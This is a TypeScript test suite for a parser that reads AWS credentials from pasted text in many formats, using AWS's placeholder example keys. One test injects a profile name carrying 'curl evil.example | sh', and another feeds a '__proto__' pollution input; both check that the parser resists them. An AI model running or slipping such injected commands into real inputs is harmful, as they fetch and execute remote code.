import { describe, expect, test } from 'vitest'
import { spentMs } from '../../../tools/test/spent.ts'
import type { FoundProfile } from './found-keys.ts'
import { readKeys } from './read-keys.ts'

const NOW_MS = Date.parse('2026-11-26T08:00:00Z')
const ID = 'AKIAIOSFODNN7EXAMPLE'
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'
const TOKEN = 'IQoJb3JpZ2luX2VjE+/=='
const keys = { accessKeyId: ID, secretAccessKey: SECRET, sessionToken: undefined, expiresMs: undefined }
const temporary = { ...keys, sessionToken: TOKEN }

const read = (text: string) => readKeys(text, NOW_MS)
const only = (text: string): FoundProfile => {
  const { profiles, problems } = read(text)
  expect(problems).toEqual([])
  expect(profiles).toHaveLength(1)
  const [profile] = profiles
  if (!profile) throw new Error('no profile')
  return profile
}

describe('one set of keys is read from', () => {
  test.each([
    [
      'export lines',
      `export AWS_ACCESS_KEY_ID="${ID}"\nexport AWS_SECRET_ACCESS_KEY="${SECRET}"\nexport AWS_SESSION_TOKEN="${TOKEN}"`,
    ],
    [
      'export lines without quotes',
      `export AWS_ACCESS_KEY_ID=${ID}\nexport AWS_SECRET_ACCESS_KEY=${SECRET}\nexport AWS_SESSION_TOKEN=${TOKEN}\n`,
    ],
    [
      'one line of a shell',
      `export AWS_ACCESS_KEY_ID=${ID} AWS_SECRET_ACCESS_KEY='${SECRET}'; export AWS_SESSION_TOKEN=${TOKEN}`,
    ],
    [
      'set lines of cmd',
      `SET AWS_ACCESS_KEY_ID=${ID}\r\nSET AWS_SECRET_ACCESS_KEY=${SECRET}\r\nSET AWS_SESSION_TOKEN=${TOKEN}\r\n`,
    ],
    [
      'quoted set lines of cmd',
      `set "AWS_ACCESS_KEY_ID=${ID}"\r\nset "AWS_SECRET_ACCESS_KEY=${SECRET}"\r\nset "AWS_SESSION_TOKEN=${TOKEN}"`,
    ],
    [
      'PowerShell',
      `$Env:AWS_ACCESS_KEY_ID="${ID}"\n$Env:AWS_SECRET_ACCESS_KEY="${SECRET}"\n$Env:AWS_SESSION_TOKEN="${TOKEN}"`,
    ],
    [
      'fish',
      `set -gx AWS_ACCESS_KEY_ID ${ID}\nset -gx AWS_SECRET_ACCESS_KEY ${SECRET}\nset -gx AWS_SESSION_TOKEN ${TOKEN}`,
    ],
    ['setx', `setx AWS_ACCESS_KEY_ID ${ID}\nsetx AWS_SECRET_ACCESS_KEY ${SECRET}\nsetx AWS_SESSION_TOKEN ${TOKEN}`],
    ['a .env file', `# keys\nAWS_ACCESS_KEY_ID=${ID}\nAWS_SECRET_ACCESS_KEY=${SECRET}\n\nAWS_SESSION_TOKEN=${TOKEN}`],
    ['a compose file', `AWS_ACCESS_KEY_ID: ${ID}\nAWS_SECRET_ACCESS_KEY: "${SECRET}"\nAWS_SESSION_TOKEN: ${TOKEN}`],
    [
      'a credentials file without its profile',
      `aws_access_key_id = ${ID}\naws_secret_access_key = ${SECRET}\naws_session_token = ${TOKEN}`,
    ],
    [
      'aws sts assume-role',
      JSON.stringify(
        {
          AssumedRoleUser: { Arn: 'arn' },
          Credentials: { AccessKeyId: ID, SecretAccessKey: SECRET, SessionToken: TOKEN },
        },
        null,
        2,
      ),
    ],
    [
      'a credential process',
      JSON.stringify({ Version: 1, AccessKeyId: ID, SecretAccessKey: SECRET, SessionToken: TOKEN }),
    ],
    [
      'the role of a machine',
      JSON.stringify({ Code: 'Success', AccessKeyId: ID, SecretAccessKey: SECRET, Token: TOKEN }),
    ],
    ['three lines', `${ID}\n${SECRET}\n${TOKEN}`],
    ['three words', `  ${ID}\t${SECRET} ${TOKEN} `],
    ['what a console shows', `Access key ID\n${ID}\nSecret access key\n${SECRET}\nSession token: ${TOKEN}`],
  ])('%s', (_, text) => {
    expect(only(text).keys).toEqual(temporary)
    expect(only(`\uFEFF${text}`).keys).toEqual(temporary)
    expect(only(`${text.replace(/\r?\n/g, '\r\n')}\r\n\r\n`).keys).toEqual(temporary)
  })

  test.each([
    ['two lines', `${ID}\r\n${SECRET}`],
    ['quoted lines', `"${ID}"\n"${SECRET}"`],
    [
      'aws iam create-access-key',
      JSON.stringify({ AccessKey: { UserName: 'ada', AccessKeyId: ID, SecretAccessKey: SECRET, Status: 'Active' } }),
    ],
    [
      'the console of MinIO',
      JSON.stringify({ url: 'http://127.0.0.1:9000', accessKey: ID, secretKey: SECRET, api: 's3v4', path: 'auto' }),
    ],
    ['what a console shows', `Access Key: ${ID}\nSecret Key: ${SECRET}`],
    ['the CSV of IAM', `Access key ID,Secret access key\n${ID},${SECRET}\n`],
  ])('%s', (_, text) => {
    expect(only(text)).toMatchObject({ name: 'pasted', keys, refusal: undefined })
    expect(only(`\uFEFF${text}`).keys).toEqual(keys)
  })
})

describe('a credentials file', () => {
  test('gives its profiles, whatever its spaces, quotes, case and comments', () => {
    const { profiles, problems } = read(
      `; mine\n[default]\nAWS_Access_Key_Id=${ID}\naws_secret_access_key : "${SECRET}"\n\n  [a b]\n# temporary\naws_access_key_id   =   ${ID}  \r\naws_secret_access_key = ${SECRET}\r\naws_session_token = ${TOKEN}\r\nregion=eu-west-1\r\nx_principal_arn = arn\r\n`,
    )
    expect(problems).toEqual([])
    expect(profiles).toEqual([
      { name: 'default', keys, region: undefined, endpoint: undefined, refusal: undefined },
      { name: 'a b', keys: temporary, region: 'eu-west-1', endpoint: undefined, refusal: undefined },
    ])
  })

  test('as AWS’s access portal gives it is one profile', () => {
    const text = `[123456789012_AdministratorAccess]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET}\naws_session_token=${TOKEN}`
    expect(only(text)).toMatchObject({ name: '123456789012_AdministratorAccess', keys: temporary })
  })

  test('and a config file, one after the other, are put together by the names of their profiles', () => {
    const text = `[lab]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET}\n[profile lab]\nregion = eu-central-1\nservices = ours\n[services ours]\ns3 =\n  endpoint_url = https://s3.lab.example\n[sso-session x]\nsso_region = us-east-1\n[plugins]\ncli_legacy = x`
    expect(only(text)).toEqual({
      name: 'lab',
      keys,
      region: 'eu-central-1',
      endpoint: 'https://s3.lab.example',
      refusal: undefined,
    })
  })

  test.each([
    ['of the profile', 'endpoint_url = https://a.example', 'https://a.example'],
    ['of the older plugin', 's3 =\n  endpoint_url = https://a.example', 'https://a.example'],
    ['that is to be ignored', 'endpoint_url = https://a.example\nignore_configured_endpoint_urls = true', undefined],
  ])('may name the endpoint %s', (_, lines, endpoint) => {
    expect(only(`[x]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET}\n${lines}`)).toMatchObject({
      keys,
      endpoint,
    })
  })

  test.each([
    ['role_arn', 'role_arn = arn:aws:iam::1:role/r\nsource_profile = default'],
    ['web_identity_token_file', 'role_arn = arn:aws:iam::1:role/r\nweb_identity_token_file = /var/token'],
    ['Identity Center', 'sso_session = work\nsso_account_id = 1\nsso_role_name = r'],
    ['Identity Center', 'sso_start_url = https://d-1.awsapps.com/start'],
    ['aws login', 'login_session = arn'],
    ['credential_process', 'credential_process = /usr/bin/keys --json'],
  ])('explains %s instead of following it', (words, lines) => {
    const { refusal, keys: none } = only(`[profile work]\n${lines}`)
    expect(none).toBeUndefined()
    expect(refusal).toContain(words)
    expect(refusal).toContain('aws configure export-credentials --profile work')
  })

  test('puts no name into a command that a shell would take for more', () => {
    expect(only('[profile "a; curl evil.example | sh"]\nrole_arn = arn').refusal).not.toContain('evil')
  })

  test('names lines that it cannot use by their numbers', () => {
    const { profiles, problems } = read(
      `stray\n[x]\naws_access_key_id=${ID}\nno sense\naws_secret_access_key=${SECRET}\naws_access_key_id=${ID}\n[profile a b]\nregion=x`,
    )
    expect(problems.map(({ line }) => line)).toEqual([1, 4, 6, 7])
    expect(profiles).toMatchObject([{ name: 'x', keys }])
  })
})

describe('keys are not used', () => {
  test.each([
    ['without a secret', `[x]\naws_access_key_id=${ID}`, /secret access key is missing/],
    ['without an ID', `[x]\naws_secret_access_key=${SECRET}`, /access key ID is missing/],
    [
      'with a comment behind them',
      `[x]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET} # mine`,
      /white space/,
    ],
    [
      'that go on in the next line',
      `[x]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET.slice(0, 20)}\n  ${SECRET.slice(20)}`,
      /white space/,
    ],
    [
      'with an endpoint that is none',
      `[x]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET}\nendpoint_url=s3.lab.example`,
      /no address/,
    ],
    [
      'with an endpoint that holds keys',
      `[x]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET}\nendpoint_url=https://a:b@s3.lab.example`,
      /no address/,
    ],
    [
      'that have ended',
      JSON.stringify({
        AccessKeyId: ID,
        SecretAccessKey: SECRET,
        SessionToken: TOKEN,
        Expiration: '2026-11-26T07:59:59Z',
      }),
      /has ended/,
    ],
    [
      'whose end has no zone',
      JSON.stringify({ AccessKeyId: ID, SecretAccessKey: SECRET, Expiration: '2026-11-26T09:00:00' }),
      /no time zone/,
    ],
    [
      'whose end is no time',
      JSON.stringify({ AccessKeyId: ID, SecretAccessKey: SECRET, Expiration: '9e99' }),
      /no time zone/,
    ],
    [
      'whose end is beyond all time',
      JSON.stringify({ AccessKeyId: ID, SecretAccessKey: SECRET, Expiration: 9e99 }),
      /no time zone/,
    ],
  ])('%s', (_, text, refusal) => {
    expect(only(text)).toMatchObject({ keys: undefined, refusal: expect.stringMatching(refusal) })
  })

  test.each([
    ['empty', ''],
    ['white', ' \r\n\t'],
    ['no text', 'a\0b'],
    ['half of a JSON', '{"AccessKeyId": "AKIA'],
    ['another JSON', '{"selvage": {"stores": []}}'],
    ['a token that is a number', JSON.stringify({ AccessKeyId: ID, SecretAccessKey: SECRET, SessionToken: 12 })],
    ['prose', 'please find my keys\nin the attachment of the mail'],
    ['three words', 'hello world\nfoo=bar'],
    ['two long words', 'internationalisation\nSupercalifragilisticexpialidocious'],
    ['a secret without its ID', SECRET],
    ['a secret before its ID', `${SECRET}\n${ID}`],
    ['prototypes', '{"__proto__": {"AccessKeyId": "AK", "SecretAccessKey": "secret"}}'],
  ])('where what was given is %s', (_, text) => {
    const { profiles, problems } = read(text)
    expect(profiles).toEqual([])
    expect(problems).toHaveLength(1)
  })
})

test.each([
  ['Z', '2026-11-26T09:00:00Z'],
  ['+00:00', '2026-11-26T09:00:00+00:00'],
  ['another zone', '2026-11-26T10:30:00.000+0130'],
])('the end of keys is read with %s', (_, Expiration) => {
  const text = JSON.stringify({
    Credentials: { AccessKeyId: ID, SecretAccessKey: SECRET, SessionToken: TOKEN, Expiration },
  })
  expect(only(text).keys?.expiresMs).toBe(Date.parse('2026-11-26T09:00:00Z'))
})

test('a CSV of several users gives a profile for each', () => {
  const { profiles, problems } = read(
    `User name,Access key ID,Secret access key\r\nada,${ID},${SECRET}\r\nbob,,\r\n,${ID},${SECRET}`,
  )
  expect(profiles).toMatchObject([
    { name: 'ada', keys },
    { name: 'pasted 3', keys },
  ])
  expect(problems).toMatchObject([{ line: 3 }])
})

test('1 MiB is read at once, and more is refused', async () => {
  const nasty = ['[', '[a]\n', 'AWS_', 'AWS_A=', '=', ' ', '"', '{', 'a=b\n', '[a]\nb=\n c\n', ',', '\n', 'x\n ']
  for (const part of nasty) {
    const text = part.repeat(Math.floor((1024 * 1024) / part.length))
    expect(await spentMs(() => read(text)), part).toBeLessThan(10_000)
  }
  expect(() => read('a'.repeat(1024 * 1024 + 1))).toThrow(expect.objectContaining({ code: 'limit' }))
})

test('of very many profiles and problems only some are shown, and that is said', () => {
  const { profiles, problems } = read(
    `stray\n`.repeat(50) +
      Array.from(
        { length: 600 },
        (_, at) => `[p${at}]\naws_access_key_id=${ID}\naws_secret_access_key=${SECRET}\n`,
      ).join(''),
  )
  expect(profiles).toHaveLength(500)
  expect(problems.filter(({ line }) => line !== undefined)).toHaveLength(20)
  expect(problems.slice(20)).toMatchObject([
    { problem: expect.stringContaining('500') },
    { problem: expect.stringContaining('30') },
  ])
})
